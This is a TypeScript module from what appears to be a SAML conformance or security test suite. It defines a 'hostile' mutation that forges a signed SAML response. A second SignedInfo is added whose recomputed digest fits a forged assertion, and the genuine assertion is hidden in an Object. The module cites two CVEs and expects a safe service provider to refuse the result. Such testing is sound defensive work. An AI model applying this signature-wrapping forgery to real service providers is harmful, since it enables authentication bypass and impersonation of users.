import { defineMutation, type MutationContext } from '../../model/mutation.ts';
import { refs } from '../kit/attack-refs.ts';
import { attributeOf, elementText, insertAfter, setAttribute, setText } from '../kit/edit.ts';
import { digestOf } from '../kit/redigest.ts';
import { afterIssuer, insideSignature, signatureObject, takeApart } from '../kit/take-apart.ts';

function wrap(xml: string, context: MutationContext): string {
  const { put, unsigned, signature, evil } = takeApart(xml, context);
  const id = attributeOf(evil, 'Assertion', 'ID');
  const infoPath = 'Signature/SignedInfo';
  const renamed = setAttribute(signature, `${infoPath}/Reference`, 'URI', `#${id}`);
  const digest = digestOf(afterIssuer(evil, renamed), 'Assertion');
  const forged = setText(renamed, `${infoPath}/Reference/DigestValue`, digest);
  const doubled = insertAfter(signature, infoPath, elementText(forged, infoPath));
  return put(afterIssuer(evil, insideSignature(doubled, signatureObject(unsigned))));
}

export default defineMutation({
  id: 'digest/several-signedinfo-both-fit',
  title: 'Two SignedInfo, each of which fits an assertion',
  stage: 'after-signing',
  change: { on: 'response', apply: wrap },
  breaks: [
    'attributes/value',
    'response/schema',
    'signature/form',
    'signature/stray-messages',
    'subject/user-name',
  ],
  hostile: true,
  safe: 'refuses',
  refs: [refs.signatureForm, refs.validateReference, refs.oneReference],
  cves: ['CVE-2019-3465', 'CVE-2025-29774'],
  attack: {
    against: 'sp',
    mechanism:
      'The forged assertion carries the genuine signature with a second SignedInfo that fits the forgery; the genuine assertion, which the first one fits, is in an Object. Every Reference verifies, and only one of them was signed.',
    weakness: ['several-signed-infos', 'any-signature-counts'],
    needs: ['signed-assertion'],
  },
});
